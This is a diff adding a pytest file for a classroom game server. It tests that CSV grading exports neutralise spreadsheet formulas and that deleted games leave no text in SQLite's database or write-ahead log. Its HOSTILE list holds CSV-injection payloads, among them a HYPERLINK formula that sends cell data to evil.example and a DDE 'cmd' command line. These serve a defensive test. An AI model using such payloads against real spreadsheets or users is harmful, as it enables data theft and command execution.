@@ -1,0 +1,149 @@
+"""Children's data, in one process: exports that carry no formula, deletes that
+delete forks and leave no text in SQLite's files, and the retention purge."""
+
+from __future__ import annotations
+
+import csv
+import io
+import itertools
+import sqlite3
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fastapi.testclient import TestClient
+
+from server.app import create_app
+from server.settings import Settings
+from server.spreadsheet import BOM, FORMULA_START
+from tests.server.helpers import SCENARIO
+
+
+def _app(tmp_path: Path, **settings: Any) -> TestClient:
+    url = f"sqlite+aiosqlite:///{(tmp_path / 'privacy.db').as_posix()}"
+    return TestClient(create_app(Settings(database_url=url, **settings)))
+
+
+@pytest.fixture
+def client(tmp_path: Path) -> Iterator[TestClient]:
+    with _app(tmp_path) as c:
+        yield c
+
+
+def _create(client: TestClient) -> dict[str, Any]:
+    response = client.post("/api/games", json={"scenario": SCENARIO, "seed": 3})
+    assert response.status_code == 201, response.text
+    return dict(response.json())
+
+
+def _auth(game: dict[str, Any]) -> dict[str, str]:
+    return {"Authorization": f"Bearer {game['instructor_key']}"}
+
+
+def _act(client: TestClient, game: dict[str, Any], action: dict[str, Any]) -> None:
+    response = client.post(f"/api/games/{game['game_id']}/actions", json={"action": action},
+                           headers=_auth(game))
+    assert response.status_code == 200, (action, response.text)
+
+
+_client_ids = itertools.count(1)
+
+
+def _say_as(client: TestClient, token: str, action: dict[str, Any]) -> None:
+    with client.websocket_connect("/ws") as ws:
+        ws.send_json({"type": "hello", "token": token})
+        assert ws.receive_json()["type"] == "welcome"
+        ws.send_json({"type": "act", "client_id": f"c{next(_client_ids)}", "action": action})
+        for _ in range(50):
+            frame = ws.receive_json()
+            if frame["type"] in ("ack", "error"):
+                assert frame["type"] == "ack", frame
+                return
+    raise AssertionError("no answer")
+
+
+# Exports carry no formula.
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1"]
+
+
+def test_every_cell_of_the_grading_csv_is_neutralised_and_the_file_has_a_bom(
+        client: TestClient) -> None:
+    game = _create(client)
+    students = {}
+    for nickname, country in (("@Ada", "EST"), ("-Boris", "EST"), ("=Chen", "NOR"),
+                              ("Türkiye fan", "TUR")):
+        seat = client.post(f"/api/join/{game['code']}", json={"nickname": nickname,
+                                                              "country": country})
+        assert seat.status_code == 201, seat.text
+        students[nickname] = seat.json()["token"]
+    _act(client, game, {"kind": "start"})
+    ada, chen = students["@Ada"], students["=Chen"]
+    for text in HOSTILE:
+        _say_as(client, ada, {"kind": "say", "channel": "public", "text": text})
+    _say_as(client, chen, {"kind": "table_draft", "draft": "=1+2", "title": "+title",
+                           "text": "=draft"})
+    _say_as(client, students["Türkiye fan"], {"kind": "say", "channel": "public",
+                                              "text": "Türkiye speaks"})
+
+    response = client.get(f"/api/games/{game['game_id']}/export.csv", headers=_auth(game))
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("text/csv")
+    raw = response.content
+    assert raw.startswith(BOM), raw[:10]
+    rows = list(csv.reader(io.StringIO(raw[len(BOM):].decode("utf-8"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START)], \
+        [c for c in cells if c.startswith(FORMULA_START)]
+    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    said = [r["text"] for r in body if r["student"] == "'@Ada"]
+    assert said == ["'" + text for text in HOSTILE]
+    assert {r["team"] for r in body if r["country"] == "EST"} == {"'@Ada; -Boris"}
+    draft = next(r for r in body if r["kind"] == "table_draft")
+    assert (draft["student"], draft["channel_or_item"], draft["text"]) == \
+        ("'=Chen", "'=1+2", "'=draft")
+    assert any(r["text"] == "Türkiye speaks" and r["student"] == "Türkiye fan" for r in body)
+
+
+# Deleted means deleted: in SQLite's files too.
+
+
+def _files(tmp_path: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in tmp_path.glob("privacy.db*")}
+
+
+def test_a_deleted_games_text_is_in_neither_the_database_file_nor_its_log(
+        tmp_path: Path) -> None:
+    marker = "Zyxwvut-private-plan"
+    with _app(tmp_path) as client:
+        game, other = _create(client), _create(client)
+        seat = client.post(f"/api/join/{game['code']}", json={"nickname": f"{marker}-nick",
+                                                              "country": "EST"}).json()
+        _act(client, game, {"kind": "start"})
+        for i in range(30):
+            _say_as(client, seat["token"], {"kind": "say", "channel": "team:EST",
+                                            "text": f"{marker} {i} " + "x" * 500})
+        client.post(f"/api/games/{game['game_id']}/annotations", headers=_auth(game),
+                    json={"seq": 1, "text": f"{marker} note"})
+        # Part of it in the database file itself, part only in the log.
+        with sqlite3.connect(tmp_path / "privacy.db") as conn:
+            assert conn.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()[0] == 0
+        _say_as(client, seat["token"], {"kind": "say", "channel": "team:EST",
+                                        "text": f"{marker} in the log"})
+        files = _files(tmp_path)
+        assert marker.encode() in files["privacy.db"]
+        assert marker.encode() in files["privacy.db-wal"]
+        with client.websocket_connect("/ws") as ws:  # a reader holding a connection open
+            ws.send_json({"type": "hello", "token": other["instructor_key"]})
+            assert ws.receive_json()["type"] == "welcome"
+            assert client.delete(f"/api/games/{game['game_id']}",
+                                 headers=_auth(game)).status_code == 204
+            files = _files(tmp_path)
+            assert files, "no database files"
+            assert not [name for name, data in files.items() if marker.encode() in data], \
+                {name: len(data) for name, data in files.items()}
+            assert len(files.get("privacy.db-wal", b"")) == 0
+        assert client.get(f"/api/games/{other['game_id']}",
+                          headers=_auth(other)).status_code == 200
